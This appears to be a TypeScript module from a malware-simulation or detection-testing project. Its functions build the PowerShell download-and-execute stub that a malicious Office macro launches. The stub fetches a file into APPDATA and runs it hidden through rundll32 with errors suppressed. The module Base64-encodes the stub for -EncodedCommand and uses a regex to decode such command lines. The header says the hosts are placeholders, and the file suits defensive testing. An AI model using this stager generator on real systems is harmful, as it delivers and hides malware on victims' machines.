/** The download stub that the macro starts, in clear. `.example` and documentation names: it can reach nothing. */
export function downloadScript(url: string, fileName: string, userAgent: string): string {
  return [
    '$ErrorActionPreference = "SilentlyContinue"',
    '$client = New-Object System.Net.WebClient',
    `$client.Headers.Add("User-Agent", "${userAgent}")`,
    `$target = Join-Path $env:APPDATA "${fileName}"`,
    `$client.DownloadFile("${url}", $target)`,
    'Start-Process rundll32.exe -ArgumentList "$target,Start" -WindowStyle Hidden',
  ].join('; ');
}

/** As `powershell.exe -EncodedCommand` wants it: UTF-16LE, then Base64. */
export function encodeCommand(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** The script inside an encoded command line, or null when there is none. */
export function decodeCommandLine(commandLine: string): string | null {
  const match = /-e(?:nc(?:odedcommand)?)?\s+([A-Za-z0-9+/=]{16,})/i.exec(commandLine);
  return match?.[1] === undefined ? null : Buffer.from(match[1], 'base64').toString('utf16le');
}
